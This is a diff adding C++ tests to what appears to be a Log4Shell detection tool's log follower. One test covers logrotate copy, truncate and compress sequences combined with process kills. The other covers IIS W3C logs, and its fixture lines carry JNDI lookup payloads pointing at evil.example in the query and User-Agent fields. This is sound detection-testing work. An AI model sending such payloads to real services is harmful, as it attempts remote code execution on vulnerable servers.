@@ -215,6 +215,170 @@ TEST_F(FollowerTest, CopyTruncateInAFolderSeenBetweenTheCopyAndTheTruncation) {
   EXPECT_EQ(tags(), (Tags{"d1", "d2", "d3"}));
 }
 
+// gzip as logrotate's compress does it: the .gz is written, then the
+// original removed.
+void gzip_file(const std::string& path) {
+  std::ifstream in(path, std::ios::binary);
+  std::stringstream s;
+  s << in.rdbuf();
+  std::string data = s.str();
+  gzFile gz = gzopen((path + ".gz").c_str(), "wb");
+  gzwrite(gz, data.data(), static_cast<unsigned>(data.size()));
+  gzclose(gz);
+  stdfs::remove(path);
+}
+
+// A copytruncate, then a rename and compress of the truncated file (or
+// logrotate's compress of the copy), with writes in between: whatever the
+// follower did between any two steps (nothing, a read, a SIGKILL and a
+// restart from its state), each line is reported exactly once.
+TEST_F(FollowerTest, CopyTruncateThenRenameAndCompressInEveryOrder) {
+  struct Step {
+    const char* what;
+    std::function<void()> run;
+  };
+  auto write = [this](const char* tag) {
+    return [this, tag] { append(log("app.log"), attack(tag)); };
+  };
+  const std::vector<Step> compress_truncated = {
+      {"write c2", write("c2")},
+      {"copy", [this] { stdfs::copy_file(log("app.log"), log("app.log.1")); }},
+      {"truncate", [this] { stdfs::resize_file(log("app.log"), 0); }},
+      {"write m1", write("m1")},
+      {"rename", [this] { stdfs::rename(log("app.log"), log("app.log.2")); }},
+      {"gzip", [this] { gzip_file(log("app.log.2")); }},
+      {"write n1", write("n1")},
+  };
+  const std::vector<Step> compress_copy = {
+      {"write c2", write("c2")},
+      {"copy", [this] { stdfs::copy_file(log("app.log"), log("app.log.1")); }},
+      {"truncate", [this] { stdfs::resize_file(log("app.log"), 0); }},
+      {"write m1", write("m1")},
+      {"gzip copy", [this] { gzip_file(log("app.log.1")); }},
+      {"write m2", write("m2")},
+  };
+  // Thousands of runs, each syncing its state and output many times: on a
+  // tmpfs when there is one (the order of events is tested here, not the
+  // durability of the saves).
+  std::error_code ec;
+  const bool on_tmpfs = stdfs::is_directory("/dev/shm", ec);
+  const stdfs::path root =
+      on_tmpfs ? stdfs::path("/dev/shm") / ("l4s_follow_orders_" + std::to_string(::getpid())) : dir_;
+  int runs = 0;
+  std::vector<std::string> failures;
+  for (const auto* steps : {&compress_truncated, &compress_copy}) {
+    size_t combos = 1;
+    for (size_t i = 1; i < steps->size(); ++i) combos *= 3;  // after the last: the final reads
+    for (bool folder : {true, false}) {
+      for (bool saves_each_sync : {true, false}) {
+        for (size_t combo = 0; combo < combos && failures.size() < 10; ++combo) {
+          dir_ = root / ("run" + std::to_string(runs++));
+          stdfs::create_directories(dir_ / "logs");
+          out_path_ = (dir_ / "out.jsonl").string();
+          follower_.reset();
+          open_output();
+          FollowOptions o = options({folder ? (dir_ / "logs").string() : log("app.log")});
+          o.state_path = (dir_ / "state.json").string();
+          o.state_interval = saves_each_sync ? std::chrono::milliseconds(0) : std::chrono::hours(1);
+          o.rotated_grace = std::chrono::milliseconds(0);
+          append(log("app.log"), "start\n");
+          start(o);
+          append(log("app.log"), attack("c1"));
+          follower_->sync();
+          std::string story = std::string(folder ? "folder" : "file") +
+                              (saves_each_sync ? ", saves each sync:" : ", saves when forced:");
+          size_t c = combo;
+          for (const Step& s : *steps) {
+            s.run();
+            story += std::string(" ") + s.what;
+            if (&s == &steps->back()) break;
+            // A kill saves nothing (SIGKILL); the next toggle starts again
+            // from the state: every kill point and restart point.
+            switch (c % 3) {
+              case 0:
+                break;
+              case 1:
+                if (follower_) {
+                  follower_->sync();
+                  story += ", read";
+                }
+                break;
+              case 2:
+                if (follower_) {
+                  follower_.reset();
+                  story += ", killed";
+                } else {
+                  open_output();
+                  start(o);
+                  story += ", started";
+                }
+                break;
+            }
+            c /= 3;
+          }
+          if (!follower_) {
+            open_output();
+            start(o);
+          }
+          follower_->sync();
+          restart(o);
+          follower_->sync();
+          Tags got = tags();
+          std::sort(got.begin(), got.end());
+          Tags want = steps == &compress_truncated ? Tags{"c1", "c2", "m1", "n1"} : Tags{"c1", "c2", "m1", "m2"};
+          if (got != want) {
+            std::string g;
+            for (const auto& x : got) g += " " + x;
+            failures.push_back(story + " ->" + g);
+          }
+          follower_.reset();
+          stdfs::remove_all(dir_);
+        }
+      }
+    }
+  }
+  if (on_tmpfs) stdfs::remove_all(root, ec);
+  std::string all;
+  for (const auto& f : failures) all += f + "\n";
+  EXPECT_TRUE(failures.empty()) << all;
+}
+
+// A W3C/IIS log: the header is written (in two goes) before any data, and
+// the follower starts at the end of the file. Each detection is the very
+// line batch hunt writes for the same file: same columns, same fields.
+TEST_F(FollowerTest, W3cHeaderWrittenFirstGivesTheFieldsBatchHuntGives) {
+  const std::string path = log("u_ex211210.log");
+  append(path, "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n");
+  start(options({path}));
+  follower_->sync();
+  append(path, "#Date: 2021-12-10 11:34:56\n"
+               "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
+               "cs(User-Agent) cs(X-Forwarded-For) sc-status\n");
+  follower_->sync();
+  append(path, "2021-12-10 11:34:56 10.0.0.1 GET /index.html q=${jndi:ldap://evil.example/w1} 443 - 203.0.113.9 "
+               "Mozilla/5.0 198.51.100.7 200\n");
+  follower_->sync();
+  append(path, "2021-12-10 11:35:02 10.0.0.1 GET /login - 443 - 203.0.113.10 "
+               "${jndi:ldap://evil.example/w2} - 404\n");
+  follower_->sync();
+  ASSERT_EQ(tags(), (Tags{"w1", "w2"}));
+
+  hunt::FileHunt batch = hunt::hunt_path(path);
+  ASSERT_TRUE(batch.status.ok());
+  std::string want;
+  for (const hunt::Detection& d : batch.detections) want += format_follow_jsonl(d, Provenance{"testhost", ""});
+  std::ifstream in(out_path_);
+  std::stringstream got;
+  got << in.rdbuf();
+  EXPECT_EQ(got.str(), want);
+  // The columns were known: not a line taken as plain text.
+  std::vector<nlohmann::json> d = detections();
+  EXPECT_EQ(d[0]["field"], "cs-uri-query");
+  EXPECT_EQ(d[1]["field"], "cs(User-Agent)");
+  EXPECT_EQ(d[1]["source_ip"], "203.0.113.10");
+  EXPECT_EQ(d[0]["forwarded_for"], "198.51.100.7");
+}
+
 TEST_F(FollowerTest, AFileThatOnlyStartsLikeAnotherIsItsOwnLog) {
   append(log("a.log"), "=== banner ===\n");
   start(options({(dir_ / "logs").string()}));
